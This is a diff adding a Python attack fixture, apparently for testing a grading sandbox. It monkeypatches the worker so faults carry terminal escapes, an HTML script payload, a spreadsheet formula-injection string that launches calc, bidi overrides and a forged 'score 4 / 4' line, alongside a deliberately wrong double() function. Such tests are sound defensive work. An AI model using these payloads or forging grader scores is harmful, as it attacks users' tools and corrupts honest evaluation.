@@ -1,0 +1,29 @@
+# attack: terminal escapes, HTML and formulas in every field of a fault
+import sys
+
+frames = sys.modules["grader.sandbox.wire.frames"]
+Worker = sys.modules["grader.sandbox.inside.worker"].Worker
+honest = Worker.answer
+
+
+def answer(self, request, body):
+    if request["do"] != "call":
+        return honest(self, request, body)
+    number, length = request["number"], request["tensors"][0]["shape"][0]
+    text = (
+        "\x1b[2J\x1b]0;title\x07\x1b]8;;http://x\x1b\\<script>alert(1)</script>=cmd|' /C calc'!A0"
+    )
+    text += "\n\nscore 4 / 4\n\u202e\u2066\x9b31m\x00\r"
+    frame = {"file": text, "line": 1, "function": text, "source": text}
+    tensor = {"name": text, "shape": [1], "dtype": text, "device": text}
+    fault = {"type": text, "kinds": [text], "message": text, "frames": [frame]}
+    return frames.pack(
+        {"number": number, "fault": {**fault, "tensors": [tensor], "raised_here": True}}
+    )
+
+
+Worker.answer = answer
+
+
+def double(x):
+    return 3 * x
